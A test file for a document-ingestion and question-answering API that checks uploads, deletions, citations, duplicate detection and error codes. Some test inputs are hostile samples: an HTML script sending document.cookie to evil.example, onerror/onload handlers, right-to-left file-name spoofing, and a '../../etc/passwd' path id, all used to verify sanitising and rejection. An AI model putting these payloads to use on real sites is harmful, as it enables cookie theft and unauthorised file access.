import { existsSync } from 'node:fs';
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { createEmbedder } from '../../../ingest/embedder.ts';
import { loadIndex } from '../../../store/generations.ts';
import { DEFAULT_MODEL_ID, MODELS_DIR } from '../../../ingest/model/paths.ts';
import { ingest } from '../../../ingest/pipeline.ts';
import { type RunningServer, seedsWorkspace, startServer, type Workspace } from '../../../test/helpers.ts';

const TOKEN = 'documents-test-token-0123456789';
const MAX_DOC_BYTES = 300_000;

let ws: Workspace;
let server: RunningServer;
beforeAll(async () => {
  ws = await seedsWorkspace(inject('seedsIndexDir'));
  server = await startServer({
    INDEX_DIR: ws.indexDir,
    CORPUS_DIR: ws.corpusDir,
    FOOTNOTE_ADMIN_TOKEN: TOKEN,
    MAX_DOC_BYTES: String(MAX_DOC_BYTES),
    RATE_LIMIT_PER_MINUTE: '0',
  });
});
afterAll(async () => {
  await server?.stop();
});

const auth = { authorization: `Bearer ${TOKEN}` };
const addJson = (body: unknown) =>
  fetch(`${server.url}/documents`, {
    method: 'POST',
    headers: { ...auth, 'content-type': 'application/json' },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  });
const upload = (
  name: string,
  content: string | Uint8Array<ArrayBuffer>,
  fields: Record<string, string> = {},
) => {
  const form = new FormData();
  form.set('file', new Blob([content]), name);
  for (const [k, v] of Object.entries(fields)) form.set(k, v);
  return fetch(`${server.url}/documents`, { method: 'POST', headers: auth, body: form });
};
const remove = (id: string) => fetch(`${server.url}/documents/${id}`, { method: 'DELETE', headers: auth });
const ask = async (question: string) =>
  (await (await fetch(`${server.url}/ask?q=${encodeURIComponent(question)}`)).json()) as {
    answer: string;
    abstained: boolean;
    citations: Array<{ docId: string; quote: string; text: string; start: number; end: number }>;
  };
const getDoc = (id: string) => fetch(`${server.url}/documents/${encodeURIComponent(id)}`);
const listIds = async () =>
  (
    (await (await fetch(`${server.url}/documents`)).json()) as { documents: Array<{ id: string }> }
  ).documents.map((d) => d.id);
const errorOf = async (res: Response) =>
  ((await res.json()) as { error: { code: string; existingId?: string } }).error;

describe('documents API round trip', () => {
  const fact =
    'The Vexmoor observatory recorded 1,337 meteors over the Kestrel Valley on the night of 9 August. Astronomers said it was the brightest shower in forty years.';
  const question = 'How many meteors did the Vexmoor observatory record?';

  it('add → answerable with a citation from it → delete → gone, abstains', async () => {
    const added = await addJson({
      id: 'vexmoor-meteors',
      title: 'Meteor shower over Kestrel Valley',
      text: fact,
      source: 'https://news.example/vexmoor',
    });
    expect(added.status).toBe(201);
    const body = (await added.json()) as { id: string; title: string; passages: number; ms: number };
    expect(body).toMatchObject({ id: 'vexmoor-meteors', title: 'Meteor shower over Kestrel Valley' });
    expect(body.passages).toBeGreaterThanOrEqual(1);
    expect(body.ms).toBeGreaterThan(0);

    expect(await listIds()).toContain('vexmoor-meteors');
    const doc = (await (await getDoc('vexmoor-meteors')).json()) as { text: string; title: string };
    expect(doc.title).toBe('Meteor shower over Kestrel Valley');
    expect(doc.text).toContain(fact);
    expect(doc.text).toContain('Source: https://news.example/vexmoor');

    const answer = await ask(question);
    expect(answer.abstained).toBe(false);
    expect(answer.answer).toContain('1,337');
    expect(answer.citations[0]?.docId).toBe('vexmoor-meteors');
    expect(answer.citations[0]?.text).toBe(
      doc.text.slice(answer.citations[0]?.start, answer.citations[0]?.end),
    );

    const deleted = await remove('vexmoor-meteors');
    expect(deleted.status).toBe(200);
    expect(await deleted.json()).toMatchObject({ id: 'vexmoor-meteors', deleted: true });
    expect((await getDoc('vexmoor-meteors')).status).toBe(404);
    expect(await listIds()).not.toContain('vexmoor-meteors');
    const after = await ask(question);
    expect(after.abstained).toBe(true);
    expect(after.answer).toMatch(/^The documents don't say/);
    expect(after.citations.map((c) => c.docId)).not.toContain('vexmoor-meteors');
    expect((await readdir(ws.corpusDir)).filter((f) => f.includes('vexmoor'))).toEqual([]);
  });

  it('accepts .md and .html uploads; HTML is indexed as text, without its scripts', async () => {
    const md = await upload(
      'harbour-report.md',
      '# Harbour report\n\nThe Quillport harbour handled 812 container ships in May.\n',
    );
    expect(md.status).toBe(201);
    expect(await md.json()).toMatchObject({ id: 'harbour-report', title: 'Harbour report' });

    const html =
      '<html><head><title>Bridge &amp; tunnel</title><script>fetch("https://evil.example/?c="+document.cookie)</script></head>' +
      '<body onload="alert(1)"><h1>Bridge opens</h1><p>The Orlen bridge will carry <b>48,000</b> cars a day.</p><img src=x onerror=alert(2)></body></html>';
    const h = await upload('bridge.html', html);
    expect(h.status).toBe(201);
    const doc = (await (await getDoc('bridge')).json()) as { title: string; text: string };
    expect(doc.title).toBe('Bridge & tunnel');
    expect(doc.text).toContain('The Orlen bridge will carry 48,000 cars a day.');
    expect(doc.text).not.toMatch(/<script|evil\.example|onerror|onload/);
    expect((await ask('How many cars will the Orlen bridge carry a day?')).answer).toContain('48,000');
  });

  it('stores hostile text as is and returns it as a JSON string', async () => {
    const hostile = [
      'Hostile document',
      '',
      'Control\u0001characters\u0007and\u001b[31mANSI\u001b[0m and a tab\there.',
      'Right-to-left \u202Egnp.exe\u202C and \u200Fmarks, zero\u200Bwidth and joiner 👩‍👩‍👧‍👦 😀.',
      '<script>alert("x")</script> stays plain text in a .txt document.',
      `A giant line: ${'ab1-'.repeat(60_000)}`,
      'The Zarvon council approved 77 new benches.',
    ].join('\n');
    const res = await addJson({ id: 'hostile', text: hostile });
    expect(res.status).toBe(201);
    const got = await getDoc('hostile');
    expect(got.headers.get('content-type')).toMatch(/^application\/json/);
    expect(((await got.json()) as { text: string }).text).toBe(hostile);
    expect((await ask('How many benches did the Zarvon council approve?')).answer).toContain('77');
  });

  it('keeps the corpus folder the source of truth: a CLI re-ingest finds nothing to embed', async () => {
    const embedder = await createEmbedder({ modelId: DEFAULT_MODEL_ID, modelsDir: MODELS_DIR });
    const summary = await ingest({
      corpusDir: ws.corpusDir,
      indexDir: ws.indexDir,
      embedder,
      maxBytes: MAX_DOC_BYTES,
    });
    expect(summary).toMatchObject({ added: 0, removed: 0, embedded: 0 });
    expect(summary.documents).toBe((await listIds()).length);
  });
});

describe('concurrent changes', () => {
  it('five documents added at once are all indexed, and the index on disk loads with all of them', async () => {
    const towns = ['Aldmere', 'Brightwater', 'Coldharbour', 'Dunmore', 'Eastwick'];
    const responses = await Promise.all(
      towns.map((town, i) =>
        addJson({
          id: `town-${town.toLowerCase()}`,
          text: `${town} news\n\nThe ${town} library lent ${1000 + i * 111} books to schoolchildren last winter.`,
        }),
      ),
    );
    expect(responses.map((r) => r.status)).toEqual([201, 201, 201, 201, 201]);
    const ids = await listIds();
    for (const town of towns) expect(ids).toContain(`town-${town.toLowerCase()}`);
    const onDisk = await loadIndex(ws.indexDir);
    expect(onDisk.documents.map((d) => d.docId).sort()).toEqual([...ids].sort());
    const answer = await ask('How many books did the Dunmore library lend?');
    expect(answer.citations[0]?.docId).toBe('town-dunmore');
    expect(answer.answer).toContain('1333');

    const deletions = await Promise.all(towns.map((t) => remove(`town-${t.toLowerCase()}`)));
    expect(deletions.map((r) => r.status)).toEqual([200, 200, 200, 200, 200]);
    expect((await loadIndex(ws.indexDir)).documents.some((d) => d.docId.startsWith('town-'))).toBe(false);
  });
});

describe('documents API description', () => {
  it('is in the OpenAPI document, with its bearer-token security and both body types', async () => {
    const spec = (await (await fetch(`${server.url}/openapi.json`)).json()) as {
      paths: Record<string, Record<string, { security?: unknown; requestBody?: { content: object } }>>;
      components: { securitySchemes: Record<string, { scheme: string }> };
    };
    const post = spec.paths['/documents']?.post;
    expect(Object.keys(post?.requestBody?.content ?? {})).toEqual([
      'application/json',
      'multipart/form-data',
    ]);
    expect(post?.security).toEqual([{ adminToken: [] }]);
    expect(spec.paths['/documents/{id}']?.delete?.security).toEqual([{ adminToken: [] }]);
    expect(spec.paths['/admin/reload']?.post).toBeDefined();
    expect(spec.components.securitySchemes.adminToken?.scheme).toBe('bearer');
  });
});

describe('documents API errors', () => {
  it('same text as an existing document: 409 with its id, not indexed twice', async () => {
    const seed = await readFile(path.join(ws.corpusDir, '004_ec9c24d3208588b7.txt'), 'utf8');
    const before = await listIds();
    const res = await addJson({ id: 'copy-of-004', text: seed });
    expect(res.status).toBe(409);
    expect(await errorOf(res)).toMatchObject({
      code: 'duplicate_document',
      existingId: '004_ec9c24d3208588b7',
    });
    expect(await listIds()).toEqual(before);
    expect(existsSync(path.join(ws.corpusDir, 'copy-of-004.txt'))).toBe(false);

    const retitled = await addJson({
      title: 'Another headline',
      text: seed,
      source: 'https://example.org/x',
    });
    expect(retitled.status).toBe(409);
    expect(await errorOf(retitled)).toMatchObject({ existingId: '004_ec9c24d3208588b7' });
    const added = await addJson({
      id: 'titled',
      title: 'A title',
      text: 'The Ostberg ferry carries 90 cars.',
    });
    expect(added.status).toBe(201);
    const again = await addJson({ title: 'Other title', text: 'The Ostberg ferry carries 90 cars.' });
    expect(await errorOf(again)).toMatchObject({ code: 'duplicate_document', existingId: 'titled' });
    expect((await remove('titled')).status).toBe(200);
  });

  it('duplicates are whole documents: a paragraph that ends another article is a document of its own', async () => {
    const closing = 'The Kestrel mill ground 300 sacks of rye in its last week.';
    const article = `Mill news\n\nThe Kestrel mill opened in 1820 beside the river.\n\n${closing}`;
    expect((await addJson({ id: 'kestrel-mill', text: article })).status).toBe(201);
    const res = await addJson({ id: 'kestrel-closing', text: closing });
    expect(res.status, JSON.stringify(await res.clone().json())).toBe(201);
    // The same article under a title is still the same article.
    const titled = await addJson({ title: 'Mill news, again', text: article });
    expect(await errorOf(titled)).toMatchObject({ code: 'duplicate_document', existingId: 'kestrel-mill' });
    expect((await remove('kestrel-closing')).status).toBe(200);
    expect((await remove('kestrel-mill')).status).toBe(200);
  });

  it('an id in use: 409', async () => {
    const res = await addJson({ id: '004_ec9c24d3208588b7', text: 'Something new entirely, about 12 owls.' });
    expect(res.status).toBe(409);
    expect(await errorOf(res)).toMatchObject({ code: 'id_taken', existingId: '004_ec9c24d3208588b7' });
  });

  it('over MAX_DOC_BYTES: 413', async () => {
    expect((await addJson({ text: 'word '.repeat(MAX_DOC_BYTES / 4) })).status).toBe(413);
    expect((await upload('big.txt', 'word '.repeat(MAX_DOC_BYTES / 4))).status).toBe(413);
  });

  it.each([
    ['a PDF that is not one', () => upload('paper.pdf', '%PDF-1.7'), 400, 'invalid_document'],
    ['a slide deck upload', () => upload('slides.key', 'PK'), 415, 'unsupported_media_type'],
    [
      'a text/plain body',
      () =>
        fetch(`${server.url}/documents`, {
          method: 'POST',
          headers: { ...auth, 'content-type': 'text/plain' },
          body: 'hello',
        }),
      415,
      'unsupported_media_type',
    ],
    ['malformed JSON', () => addJson('{"text": '), 400, 'malformed_json'],
    ['both text and html', () => addJson({ text: 'a', html: '<p>a</p>' }), 400, 'invalid_request'],
    ['neither text nor html', () => addJson({ title: 'Only a title' }), 400, 'invalid_request'],
    ['an id that is a path', () => addJson({ id: '../../etc/passwd', text: 'x' }), 400, 'invalid_request'],
    ['an id starting with a dot', () => addJson({ id: '.hidden', text: 'x' }), 400, 'invalid_request'],
    ['a two-line title', () => addJson({ title: 'a\nb', text: 'x y z' }), 400, 'invalid_request'],
    ['text with no words', () => addJson({ text: ' \n\t ' }), 400, 'invalid_document'],
    ['a NUL byte', () => addJson({ text: 'The \u0000 council.' }), 400, 'invalid_document'],
    [
      'a Latin-1 file',
      () => upload('latin1.txt', new Uint8Array([0x63, 0x61, 0x66, 0xe9])),
      400,
      'invalid_document',
    ],
    [
      'a file field that is not a file',
      () => {
        const form = new FormData();
        form.set('file', 'just a string');
        return fetch(`${server.url}/documents`, { method: 'POST', headers: auth, body: form });
      },
      400,
      'invalid_request',
    ],
    ['deleting an unknown document', () => remove('no-such-doc'), 404, 'not_found'],
  ])('%s', async (_, send, status, code) => {
    const before = await listIds();
    const res = await send();
    expect(res.status).toBe(status);
    expect((await errorOf(res)).code).toBe(code);
    expect(await listIds()).toEqual(before);
  });
});
